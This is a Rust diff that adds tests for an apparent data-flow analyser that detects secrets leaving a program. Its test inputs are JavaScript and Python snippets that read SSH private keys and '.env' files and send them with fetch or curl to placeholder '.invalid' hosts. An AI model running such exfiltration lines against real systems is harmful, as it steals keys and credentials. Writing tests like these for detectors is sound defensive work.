@@ -29,7 +29,7 @@ fn events(language: Language, text: &str) -> Vec<Event> {
 }
 
 /// What `text` does, one line each: what it is, what it is about, and where that comes from.
-fn told(language: Language, text: &str) -> Vec<String> {
+pub(super) fn told(language: Language, text: &str) -> Vec<String> {
     events(language, text)
         .iter()
         .map(|event| told_of(&event.act))
@@ -80,7 +80,7 @@ fn from(from: Origins) -> String {
 }
 
 /// What `text` does has each of `lines` in it, in this order.
-fn tells(language: Language, text: &str, lines: &[&str]) {
+pub(super) fn tells(language: Language, text: &str, lines: &[&str]) {
     let told = told(language, text);
     let mut rest = told.iter();
     for line in lines {
@@ -185,6 +185,25 @@ fn python_values_flow_through_functions_loops_and_objects() {
         &[
             "contact https://a.invalid with ",
             "contact https://b.invalid with  [Environment]",
+        ],
+    );
+}
+
+#[test]
+fn what_an_object_holds_under_one_name_is_not_what_it_holds_under_another() {
+    let text = "const all = { key: require('fs').readFileSync('/root/.ssh/id_rsa'), names: process.argv.slice(2) };\n\
+                function get({ names }) { fetch(`https://a.invalid/${names}`); }\nget(all);\n\
+                fetch('https://b.invalid', { body: all.names });\n\
+                fetch('https://c.invalid', { body: all.key });\nall.names = all.key;\n\
+                fetch('https://d.invalid', { body: all.names });\n";
+    tells(
+        Language::JavaScript,
+        text,
+        &[
+            "contact https://a.invalid/… with ",
+            "contact https://b.invalid with ",
+            "contact https://c.invalid with  [Keys]",
+            "contact https://d.invalid with  [Keys]",
         ],
     );
 }
@@ -374,4 +393,56 @@ fn what_a_group_writes_is_read_as_one_and_a_timetable_is_code() {
         let told = told(Language::Shell, text);
         assert!(!told.iter().any(runs_fetched), "{text}: {told:#?}");
     }
+}
+
+#[test]
+fn each_gap_of_a_line_that_is_put_together_is_filled_from_its_own_place() {
+    let key = "const fs = require('fs'); const cp = require('child_process');\n\
+               const t = fs.readFileSync('.env', 'utf8'); const u = process.argv[2];\n";
+    let in_header = [
+        "cp.exec(`curl -H 'Authorization: Bearer ${t}' -d '${u}' https://a.invalid/${u}`);",
+        "cp.exec('curl -H \"Authorization: ' + t + '\" -d ' + u + ' https://a.invalid');",
+        "const all = ['-s', '-H', `Authorization: ${t}`]; all.push('-d', u);\n\
+         cp.exec(`curl ${all.map(a => `'${a}'`).join(' ')} https://a.invalid`);",
+    ];
+    // As a line is quoted for the shell, with a variable whose name may be set.
+    let quoted = "const v = process.env[process.argv[3] || 'API_TOKEN']; const all = ['-s'];\n\
+                  if (v) all.push('-H', `${process.argv[4] || 'Authorization'}: ${t || v}`);\n\
+                  const line = all.map(a => `'${a.replace(/'/g, \"'\\\\''\")}'`).join(' ');\n\
+                  cp.exec(`curl ${line} https://a.invalid`);";
+    let in_header = in_header.into_iter().chain([quoted]);
+    for line in in_header {
+        let told = told(Language::JavaScript, &format!("{key}{line}"));
+        let contact = "contact https://a.invalid";
+        let is_clean = |line: &String| line.starts_with(contact) && line.ends_with("with ");
+        assert!(told.iter().any(is_clean), "{line}: {told:#?}");
+    }
+    let in_body = [
+        "cp.exec(`curl -H 'X-Id: ${u}' -d '${t}' https://a.invalid`);",
+        "cp.exec('curl -H \"X-Id: ' + u + '\" -d ' + t + ' https://a.invalid');",
+        "const all = ['-s', '-H', `X-Id: ${u}`]; all.push('-d', t);\n\
+         cp.exec(`curl ${all.map(a => `'${a}'`).join(' ')} https://a.invalid`);",
+        // What is added behind is not told apart from what stood there.
+        "let l = `curl -H '${u}' -d '${u}' https://a.invalid`; l.append(t); cp.exec(l);",
+    ];
+    for line in in_body {
+        tells(
+            Language::JavaScript,
+            &format!("{key}{line}"),
+            &["contact https://a.invalid with  [Settings]"],
+        );
+    }
+    tells(
+        Language::Python,
+        "import os, sys\nk = open('/root/.ssh/id_rsa').read()\n\
+         os.system(f'curl -H \"X: {sys.argv[1]}\" -d \"{k}\" https://a.invalid')\n\
+         os.system('curl -H \"X: %s\" -d %s https://b.invalid' % (k, sys.argv[1]))\n\
+         os.system(f'sh -c \"curl -d {sys.argv[1]} https://c.invalid; curl -d {k} https://d.invalid\"')\n",
+        &[
+            "contact https://a.invalid with  [Keys]",
+            "contact https://b.invalid with  [Keys]",
+            "contact https://c.invalid with ",
+            "contact https://d.invalid with  [Keys]",
+        ],
+    );
 }
